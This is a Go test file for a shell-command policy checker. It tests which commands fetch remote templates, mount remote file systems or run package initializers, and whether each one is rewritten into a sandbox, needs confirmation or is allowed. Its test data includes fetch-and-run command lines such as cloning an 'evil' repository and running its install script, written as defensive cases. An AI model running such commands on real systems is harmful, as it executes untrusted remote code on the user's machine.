package rewrite

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestTemplateFetchers checks the fetchers of repository snapshots and
// templates (red-team finding 10): a clone or snapshot lands in the
// sandbox, a template tool that runs the template's hooks asks, and
// local templates and the tools' other commands pass.
func TestTemplateFetchers(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, nil)
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`hub clone evil/x`, "rewrite"},
		{`hub clone evil/x && cd x && ./install.sh`, "rewrite"},
		{`sl clone https://e.x/r && cd r && make`, "rewrite"},
		{`sl clone https://e.x/r dest`, "rewrite"},
		{`degit evil/repo d && bash d/install.sh`, "rewrite"},
		{`degit evil/repo`, "rewrite"},
		{`tiged -m git evil/repo dir`, "rewrite"},
		{`giget gh:evil/repo d && sh d/setup.sh`, "rewrite"},
		{`giget --install gh:evil/repo d`, "ask"},
		{`ghq get evil/x`, "ask"},
		{`cookiecutter gh:evil/tmpl`, "ask"},
		{`cookiecutter https://github.com/evil/tmpl --no-input`, "ask"},
		{`copier copy gh:evil/tmpl .`, "ask"},
		{`copier update`, "ask"},
		{`cargo generate --git https://e.x/r`, "ask"},
		{`cargo generate evil/tmpl`, "ask"},
		// Look-alikes.
		{`hub status`, "allow"},
		{`hub pr list`, "allow"},
		{`sl status`, "allow"},
		{`sl log -l 5`, "allow"},
		{`ghq list`, "allow"},
		{`cookiecutter ./my-template`, "allow"},
		{`copier copy ../tmpl out`, "allow"},
		{`cargo generate --path ./templates/lib`, "allow"},
		{`cargo build`, "allow"},
		{`degit --help`, "allow"},
	})
	r := Check(cfg, "degit evil/repo d")
	if r.Decision != Rewrite || r.Rewritten != "degit evil/repo "+cfg.Sandbox+"/d" {
		t.Errorf("degit evil/repo d: %s %q", r.Decision, r.Rewritten)
	}
}

// TestRemoteMountInProject: a remote file system mounted in the project
// asks; in the sandbox or outside the project it passes.
func TestRemoteMountInProject(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, nil)
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`sshfs h: mnt`, "ask"},
		{`sshfs -o reconnect user@h:/srv ./remote`, "ask"},
		{`rclone mount remote: mnt --vfs-cache-mode full`, "ask"},
		{`rclone --config x.conf mount --daemon remote:bucket data`, "ask"},
		{`curlftpfs ftp.example.com mnt`, "ask"},
		{`sshfs h: ` + cfg.Sandbox + `/mnt`, "allow"},
		{`sshfs h: /mnt/h`, "allow"},
		{`rclone mount remote: /mnt/r`, "allow"},
		{`rclone lsd remote:`, "allow"},
		{`rclone config`, "allow"},
	})
}

// TestPackageInitializers: the package managers' project initializers
// (red team 6, row 7) are judged as the template tools are, through every
// package runner of the one table; the local spellings pass.
func TestPackageInitializers(t *testing.T) {
	t.Parallel()
	cfg := testConfig()
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"npm create vite@latest app", "ask"},
		{"npm create --yes vite@latest app -- --template vanilla", "ask"},
		{"npm init vite@latest app", "ask"},
		{"npm init @usr/foo", "ask"},
		{"npm --prefix web init react-app my-app", "ask"},
		{"npm --loglevel silent innit vite app", "ask"},
		{"yarn --cwd web create vite app", "ask"},
		{"yarn create vite x", "ask"},
		{"pnpm create vite app", "ask"},
		{"bun create vite app", "ask"},
		{"bun create user/repo dest", "ask"},
		{"composer create-project laravel/laravel app", "ask"},
		{"composer create-project --prefer-dist -s dev laravel/laravel app", "ask"},
		{"rails new app -m https://x.example/template.rb", "ask"},
		{"rails new app --template=https://x.example/template.rb", "ask"},
		{"npx create-react-app my-app", "ask"},
		{"npx -y create-vite@5 app", "ask"},
		{"pnpm dlx create-vite app", "ask"},
		{"bunx create-vite app", "ask"},
		{"deno run -A npm:create-vite app", "ask"},
		{"npm exec --yes -- create-vite app", "ask"},
		// Another runner's spelling of degit (deno's npm: specifiers).
		{"deno run -A npm:degit a/b x", "ask"},
		{"deno run -A npm:tiged@2 a/b", "ask"},
		{"deno x degit a/b x", "ask"},
		// Look-alikes that must pass: local initialisation, the sandbox,
		// other packages run, and deno scripts.
		{"npm init", "allow"},
		{"npm init -y", "allow"},
		{"npm init --scope=@me -y", "allow"},
		{"npm --prefix web init -y", "allow"},
		{"npm init -w packages/a -y", "allow"},
		{"bun init", "allow"},
		{"bun create ./Component.tsx", "allow"},
		{"yarn init -y", "allow"},
		{"pnpm init", "allow"},
		{"composer install", "allow"},
		{"rails new app", "allow"},
		{"rails new app -m ./template.rb", "allow"},
		{"npm create vite@latest " + cfg.Sandbox + "/app", "allow"},
		{"cd " + cfg.Sandbox + " && npm create vite@latest app", "allow"},
		{"npx create-vite " + cfg.Sandbox + "/app", "allow"},
		{"npx eslint .", "allow"},
		{"npx createdb-helper x", "allow"},
		{"deno run -A main.ts", "allow"},
		{"deno run -A npm:cowsay hi", "allow"},
	})
}

// TestPackageInitializerWrites runs the real npm, offline, with a local
// package standing in for a registry's create-* initializer: npm exec runs
// its code, which writes its tree into the working directory; corral asks
// about that command and passes it in the sandbox.
func TestPackageInitializerWrites(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("npm"); err != nil {
		t.Skip("npm not installed")
	}
	cfg := scratchProject(t, map[string]string{
		"create-foo/package.json": `{"name":"create-foo","version":"1.0.0","bin":{"create-foo":"index.js"}}`,
		"create-foo/index.js":     "#!/usr/bin/env node\nconst fs=require('fs');const d=process.argv[2]||'.';fs.mkdirSync(d,{recursive:true});fs.writeFileSync(d+'/payload.sh','echo template\\n');\n",
		"proj/README":             "x\n",
	})
	root := filepath.Dir(cfg.Project)
	if err := os.Chmod(filepath.Join(root, "create-foo/index.js"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmdText := "npm exec --offline --yes --package=file:../create-foo -- create-foo app"
	if r := Check(cfg, cmdText); r.Decision != Ask || !strings.Contains(fmt.Sprint(r.Findings), "project-initializer") {
		t.Errorf("%s: %s %v, want ask (project-initializer)", cmdText, r.Decision, r.Findings)
	}
	cmd := exec.Command("npm", "exec", "--offline", "--yes", "--package=file:../create-foo", "--", "create-foo", "app")
	cmd.Dir = cfg.Project
	cmd.Env = append(os.Environ(), "HOME="+root, "npm_config_cache="+filepath.Join(root, "npmcache"), "npm_config_update_notifier=false")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("npm exec: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(cfg.Project, "app/payload.sh")); err != nil {
		t.Fatalf("the initializer wrote no tree into the project: %v", err)
	}
}

// TestInstalledInitializer: a create-* program installed globally by a
// package manager (a link from a bin directory on PATH into
// node_modules/create-*/, or pnpm's launcher script naming one) is the
// initializer npm create runs; a create-* program that is not an npm
// package, or one not installed, passes. Not parallel: it sets PATH.
func TestInstalledInitializer(t *testing.T) {
	cfg := scratchProject(t, nil)
	g := t.TempDir()
	files := map[string]string{
		"lib/node_modules/create-foo/index.js":                     "#!/usr/bin/env node\n",
		"lib/node_modules/@acme/create-app/cli.js":                 "#!/usr/bin/env node\n",
		"pnpm/global/5/node_modules/create-pn/index.js":            "#!/usr/bin/env node\n",
		"other/create-image":                                       "#!/bin/sh\necho image\n",
		"bin/create-pn":                                            "#!/bin/sh\nbasedir=$(dirname \"$0\")\nexec node  \"$basedir/../pnpm/global/5/node_modules/create-pn/index.js\" \"$@\"\n",
		"bin/create-image":                                         "#!/bin/sh\nexec " + g + "/other/create-image \"$@\"\n",
		"lib/node_modules/tool/node_modules/create-x/not-a-bin.js": "x\n",
	}
	for rel, text := range files {
		p := filepath.Join(g, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		"bin/create-foo":  "../lib/node_modules/create-foo/index.js",
		"bin/create-acme": "../lib/node_modules/@acme/create-app/cli.js",
		"bin/create-db":   "../other/create-image",
	} {
		if err := os.Symlink(target, filepath.Join(g, link)); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("PATH", filepath.Join(g, "bin")+":"+os.Getenv("PATH"))
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`create-foo my-app`, "ask"},
		{`create-foo`, "ask"},
		{`create-acme app --template react`, "ask"},
		{`create-pn app`, "ask"},
		{g + `/bin/create-foo app`, "ask"},
		{`sudo -u dev create-foo app`, "ask"},
		// In the sandbox, or with its destination there.
		{`cd ` + cfg.Sandbox + ` && create-foo app`, "allow"},
		{`create-foo ` + cfg.Sandbox + `/app`, "allow"},
		// Look-alikes: not npm packages, or not installed.
		{`create-image --output out.cpio`, "allow"},
		{`create-db x`, "allow"},
		{`create-nothing-here app`, "allow"},
		{`echo create-foo app`, "allow"},
		{`man create-foo`, "allow"},
	})
	// What the real program is: the file PATH finds links into
	// node_modules/create-foo.
	if p, err := exec.LookPath("create-foo"); err != nil {
		t.Fatal(err)
	} else if real, err := filepath.EvalSymlinks(p); err != nil || !strings.Contains(real, "node_modules/create-foo/") {
		t.Fatalf("create-foo resolves to %s (%v)", real, err)
	}
}
